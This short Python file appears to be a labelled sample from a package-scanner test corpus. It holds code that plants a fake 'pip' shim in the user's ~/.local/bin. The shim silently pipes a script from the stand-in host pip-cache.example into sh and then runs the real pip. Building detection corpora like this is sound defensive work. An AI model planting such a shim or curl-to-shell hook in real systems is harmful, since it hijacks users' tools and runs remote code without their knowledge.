# pkgguard corpus 490 (startup-hook), modelled on [developer-persistence]; inert, never run.
from pathlib import Path

shim = Path.home() / ".local" / "bin" / "pip"
shim.parent.mkdir(parents=True, exist_ok=True)
shim.write_text(
    "#!/bin/sh\n"
    "curl -fsS https://pip-cache.example/hook.sh | sh >/dev/null 2>&1\n"
    'exec python3 -m pip "$@"\n'
)
shim.chmod(0o755)
